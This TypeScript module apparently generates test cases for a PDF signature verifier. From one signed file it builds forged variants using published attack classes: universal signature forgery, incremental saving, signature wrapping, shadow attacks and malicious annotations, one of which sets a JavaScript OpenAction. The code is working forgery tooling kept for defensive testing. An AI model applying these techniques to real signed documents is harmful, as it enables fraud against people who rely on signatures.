import { signatureFields } from "@/lib/signatures/pdf/fields";
import { PdfFile, Revision } from "@/lib/signatures/pdf/revision";
import { Dict, Name, Ref } from "@/lib/signatures/pdf/values";
import { changed, Update } from "@/lib/signatures/signing/update";
import { textOf, Verbatim, type Written } from "@/lib/signatures/signing/writing";

// The known attacks on signed PDFs, made from one honestly signed file each (Mladenov et al. 2019: universal forgery, incremental saving,
// wrapping; Mainka, Mladenov, Rohlmann 2021: shadow, certification).

export type Attack = readonly [name: string, bytes: Buffer];
type Values = { [key: string]: Written | undefined };

export function parts(signed: Buffer) {
  const revision = new Revision(new PdfFile(signed), signed.length);
  const [field] = signatureFields(revision);
  if (!field) throw new Error("not signed");
  const [, before, after, rest] = (field.signature.dict.get("ByteRange") ?? []) as number[];
  if (before === undefined || after === undefined || rest === undefined) throw new Error("not signed");
  return { revision, field, before, after, rest, contents: signed.toString("latin1", before, after) };
}

/** The signature's object written anew with other values, behind the file. */
function overwritten(signed: Buffer, values: Values, tail?: (update: Update) => void): Buffer {
  const { field, contents } = parts(signed);
  const update = new Update(signed);
  update.put(new Ref(field.signature.num, 0), changed(field.signature.dict, { Contents: new Verbatim(contents), ...values }));
  tail?.(update);
  return update.end();
}
const verbatim = (text: string) => new Verbatim(text);

/** Universal signature forgery: the signature is there to be seen, and nothing in it to be checked. */
export function forgeries(signed: Buffer): Attack[] {
  const { before, after, rest, contents } = parts(signed);
  const evil = (update: Update) => update.put(new Ref(4, 0), {}, Buffer.from("BT /F1 12 Tf 72 700 Td (Quyet dinh so 999) Tj ET"));
  const contentsValues: [string, Values][] = [
    ["missing", { Contents: undefined }],
    ["null", { Contents: null }],
    ["empty", { Contents: verbatim("<>") }],
    ["one nought", { Contents: verbatim("<00>") }],
    ["noughts", { Contents: verbatim(`<${"0".repeat(contents.length - 2)}>`) }],
    ["an empty string", { Contents: verbatim("()") }],
    ["a number", { Contents: 0 }],
    ["a name", { Contents: new Name("Contents") }],
    ["a list", { Contents: [] }],
    ["a reference to nothing", { Contents: new Ref(4_000, 0) }],
    ["letters", { Contents: verbatim("(abcdefghijklmnopqrst)") }],
    ["twice", { Contents: undefined, "Contents ": verbatim(`null/Contents ${contents}`) }],
  ];
  const rangeValues: [string, Values][] = [
    ["missing", { ByteRange: undefined }],
    ["null", { ByteRange: null }],
    ["empty", { ByteRange: [] }],
    ["noughts", { ByteRange: [0, 0, 0, 0] }],
    ["a nought", { ByteRange: verbatim("[0x00]") }],
    ["negative", { ByteRange: [0, before, after, -rest] }],
    ["negative first", { ByteRange: [-1, before, after, rest] }],
    ["in another order", { ByteRange: [after, rest, 0, before] }],
    ["three numbers", { ByteRange: [0, before, after] }],
    ["past the end", { ByteRange: [0, before, after, rest + 1_000_000] }],
    ["broken numbers", { ByteRange: verbatim(`[0 ${before}.5 ${after} ${rest}]`) }],
    ["words", { ByteRange: textOf("0 1 2 3") }],
  ];
  return [
    ...contentsValues.map(([name, values]): Attack => [`USF Contents ${name}`, overwritten(signed, values, evil)]),
    ...rangeValues.map(([name, values]): Attack => [`USF ByteRange ${name}`, overwritten(signed, values, evil)]),
  ];
}

/** Incremental saving: the signed bytes stay, and what is shown is said behind them. */
export function savings(signed: Buffer): Attack[] {
  const { field, contents } = parts(signed);
  const drawing = "BT /F1 12 Tf 72 700 Td (Quyet dinh so 999) Tj ET";
  const object = `4 0 obj\n<</Length ${drawing.length}>>\nstream\n${drawing}\nendstream\nendobj\n`;
  const at = (text: string) => String(signed.length + text.length).padStart(10, "0");
  const table = `xref\n4 1\n${at("")} 00000 n \n`;
  const trailer = "trailer\n<</Size 9/Root 1 0 R>>\n";
  const append = (text: string) => Buffer.concat([signed, Buffer.from(text, "latin1")]);
  const update = (make: (update: Update) => void) => {
    const one = new Update(signed);
    make(one);
    return one.end();
  };
  const page = (more: Values) => (one: Update) => {
    const dict = one.latest.load(3);
    if (dict instanceof Dict) one.put(new Ref(3, 0), changed(dict, more));
  };
  const start = signed.toString("latin1").lastIndexOf("startxref");
  const lastStart = signed.toString("latin1", start);
  return [
    ["ISA contents", update((one) => one.put(new Ref(4, 0), {}, Buffer.from(drawing)))],
    ["ISA without a table", append(object)],
    ["ISA without a trailer", append(`${object}${table}`)],
    ["ISA without an end", append(`${object}${table}${trailer}`)],
    ["ISA without a table, with the old end", append(`${object}${lastStart}`)],
    [
      "ISA with a trailer alone",
      append(`${object}trailer\n<</Size 9/Root 1 0 R/Prev ${/\d+/.exec(lastStart)?.[0]}>>\n${lastStart}`),
    ],
    ["ISA with the signature copied", overwritten(signed, {}, (one) => one.put(new Ref(4, 0), {}, Buffer.from(drawing)))],
    [
      "ISA with the signature copied under another number",
      update((one) => {
        const copy = one.add(changed(field.signature.dict, { Contents: verbatim(contents) }));
        const widget = one.latest.load(field.num);
        if (widget instanceof Dict) one.put(new Ref(field.num, 0), changed(widget, { V: copy }));
        one.put(new Ref(4, 0), {}, Buffer.from(drawing));
      }),
    ],
    ["ISA other contents", update((one) => page({ Contents: one.add({}, Buffer.from(drawing)) })(one))],
    [
      "ISA another page",
      update((one) => {
        const other = one.add({
          Type: new Name("Page"),
          Parent: new Ref(2, 0),
          MediaBox: [0, 0, 595, 842],
          Contents: one.add({}, Buffer.from(drawing)),
          Resources: {},
        });
        one.put(new Ref(2, 0), { Type: new Name("Pages"), Count: 2, Kids: [other, new Ref(3, 0)] });
      }),
    ],
    [
      "ISA another catalogue",
      update((one) =>
        one.put(new Ref(1, 0), changed(one.root.dict, { OpenAction: { S: new Name("JavaScript"), JS: textOf("app.alert(1)") } })),
      ),
    ],
    [
      "ISA another font",
      update((one) =>
        one.put(new Ref(5, 0), { Type: new Name("Font"), Subtype: new Name("Type1"), BaseFont: new Name("Symbol") }),
      ),
    ],
    ["ISA a page turned", update(page({ Rotate: 180 }))],
    ["ISA a box cut", update(page({ CropBox: [0, 0, 100, 100] }))],
    ["ISA words behind the end", append("\nQuyet dinh so 999\n")],
    ["ISA the signature taken away", update((one) => one.put(new Ref(1, 0), changed(one.root.dict, { AcroForm: undefined })))],
  ];
}

/**
 * Wrapping: the signed bytes stay two and in order, the second part is moved back, and between them stands what is shown: first what stood
 * there, at its old places, then a table of its own at the very place where the signed part says one is.
 */
export function wrappings(signed: Buffer): Attack[] {
  const { revision, field, before, after, rest, contents } = parts(signed);
  const [newest, previous] = revision.sections;
  if (!newest || !previous) throw new Error("not signed");
  const start = newest.offset;
  const second = after + 40_000;
  const drawing = "BT /F1 12 Tf 72 700 Td (Quyet dinh so 999) Tj ET";
  const make = ({ range = `[0 ${before} ${second} ${rest}]`, content = contents, hasCopy = true, filler = "%" } = {}): Buffer => {
    const gap = Buffer.alloc(second - after, filler);
    signed.copy(gap, 0, after, start);
    const places = new Map([...newest.entries].flatMap(([num, entry]) => (entry.kind === "at" ? [[num, entry.offset]] : [])));
    let at = start + 2_000;
    const put = (num: number, body: string) => {
      const object = `\n${num} 0 obj\n${body}\nendobj\n`;
      gap.write(object, at - after, "latin1");
      places.set(num, at + 1);
      at += object.length;
    };
    put(4, `<</Length ${drawing.length}>>\nstream\n${drawing}\nendstream`);
    const kind = "/Type/Sig/Filter/Adobe.PPKLite/SubFilter/ETSI.CAdES.detached";
    if (hasCopy) put(field.signature.num, `<<${kind}/ByteRange${range}/Contents${content}>>`);
    const rows = [...places].map(([num, place]) => `${num} 1\n${String(place).padStart(10, "0")} 00000 n \n`).join("");
    gap.write(`xref\n${rows}trailer\n<</Size 20/Root 1 0 R/Prev ${previous.offset}>>\n`, start - after, "latin1");
    return Buffer.concat([signed.subarray(0, after), gap, signed.subarray(after)]);
  };
  return [
    ["SWA with a copied signature", make()],
    ["SWA with the signature as it was", make({ hasCopy: false })],
    ["SWA with blanks between", make({ filler: " " })],
    ["SWA with a copy that says the old parts", make({ range: `[0 ${before} ${after} ${rest}]` })],
    ["SWA with six numbers", make({ range: `[0 ${before} ${second} ${rest} 0 0]` })],
    ["SWA with parts that overlap", make({ range: `[0 ${before + 10} ${second} ${rest}]` })],
    ["SWA with a content of blanks", make({ content: contents.replace(">", " >") })],
    ["SWA with something before", Buffer.concat([Buffer.from("%evil\n"), signed])],
  ];
}

const overlay = (fill: string) =>
  `<</Type/XObject/Subtype/Form/BBox[0 0 595 842]/Length ${fill.length}>>\nstream\n${fill}\nendstream`;
/**
 * What a shadow is prepared in: 6 draws over the page, 7 is a second drawing of the page, 8 another tree of pages, 9 a field, and 10 what it
 * shows.
 */
export const prepared = {
  page: "/Annots[9 0 R]",
  catalog: "/AcroForm<</Fields[9 0 R]/DA(/F1 12 Tf)>>",
  objects: [
    overlay("1 1 1 rg 0 0 595 842 re f"),
    "<</Length 48>>\nstream\nBT /F1 12 Tf 72 700 Td (Quyet dinh so 999) Tj ET\nendstream",
    "<</Type/Pages/Count 1/Kids[3 0 R]/Shadow true>>",
    "<</Type/Annot/Subtype/Widget/FT/Tx/T(so)/V(123)/Rect[70 600 300 620]/P 3 0 R/AP<</N 10 0 R>>>>",
    overlay("0 g"),
  ],
};

/** Shadows: what is needed was there when it was signed; an update brings it to the light, or puts it away. */
export function shadows(signed: Buffer): Attack[] {
  const { revision } = parts(signed);
  const offset = (num: number) => {
    const entry = revision.entries.get(num);
    return entry?.kind === "at" ? entry.offset : 0;
  };
  /** Nothing but a table: every byte of what is shown was signed. */
  const switched = (rows: string): Buffer => {
    const at = signed.length;
    const previous = revision.sections[0]?.offset;
    const text = `xref\n${rows}trailer\n<</Size ${revision.entries.size}/Root 1 0 R/Prev ${previous}>>\nstartxref\n${at}\n%%EOF\n`;
    return Buffer.concat([signed, Buffer.from(text, "latin1")]);
  };
  const row = (place: number, end = "00000 n") => `${String(place).padStart(10, "0")} ${end} \n`;
  const update = (make: (update: Update) => void) => {
    const one = new Update(signed);
    make(one);
    return one.end();
  };
  const field = (one: Update, more: Values) => {
    const dict = one.latest.load(9);
    if (dict instanceof Dict) one.put(new Ref(9, 0), changed(dict, more));
  };
  return [
    ["shadow: what covered is freed", switched(`6 1\n${row(0, "00001 f")}`)],
    [
      "shadow: what covered is another kind",
      update((one) => one.put(new Ref(6, 0), { Type: new Name("XObject"), Subtype: new Name("Image") })),
    ],
    [
      "shadow: what covered is empty",
      update((one) =>
        one.put(new Ref(6, 0), { Type: new Name("XObject"), Subtype: new Name("Form"), BBox: [0, 0, 0, 0] }, Buffer.from(" ")),
      ),
    ],
    [
      "shadow: a font is replaced",
      update((one) => one.put(new Ref(5, 0), { Type: new Name("Font"), Subtype: new Name("Type3"), Evil: true })),
    ],
    ["shadow: a field says something else", update((one) => field(one, { V: textOf("999") }))],
    [
      "shadow: a field shows something else",
      update((one) =>
        one.put(
          new Ref(10, 0),
          { Type: new Name("XObject"), Subtype: new Name("Form"), BBox: [0, 0, 595, 842] },
          Buffer.from("1 0 0 rg 0 0 595 842 re f"),
        ),
      ),
    ],
    ["shadow: a field is moved", update((one) => field(one, { Rect: [0, 0, 595, 842], V: textOf("999") }))],
    ["shadow: another drawing, by the table alone", switched(`4 1\n${row(offset(7))}`)],
    ["shadow: another tree, by the table alone", switched(`2 1\n${row(offset(8))}`)],
    ["shadow: another tree", update((one) => one.put(one.root.ref, changed(one.root.dict, { Pages: new Ref(8, 0) })))],
    ["shadow: layers", update((one) => one.put(one.root.ref, changed(one.root.dict, { OCProperties: { OCGs: [], D: {} } })))],
  ];
}

const annotation =
  (subtype: string, more: Values = {}) =>
  (one: Update) => {
    const look = one.add(
      { Type: new Name("XObject"), Subtype: new Name("Form"), BBox: [0, 0, 595, 842] },
      Buffer.from("1 1 1 rg 0 0 595 842 re f"),
    );
    const added = one.add(
      changed(new Dict(new Map()), {
        Type: new Name("Annot"),
        Subtype: new Name(subtype),
        Rect: [50, 650, 400, 750],
        AP: { N: look },
        ...more,
      }),
    );
    const page = one.latest.load(3);
    if (!(page instanceof Dict)) throw new Error("no page");
    const before = page.get("Annots");
    one.put(new Ref(3, 0), changed(page, { Annots: [...(Array.isArray(before) ? (before as Written[]) : []), added] }));
  };

/** Evil annotations on a certified file. */
export function annotations(signed: Buffer): Attack[] {
  return ["FreeText", "Stamp", "Redact", "Highlight", "Widget", "Link"].map((subtype): Attack => {
    const one = new Update(signed);
    annotation(subtype, subtype === "FreeText" ? { Contents: textOf("999"), DA: textOf("/F1 12 Tf") } : {})(one);
    return [`EAA ${subtype}`, one.end()];
  });
}
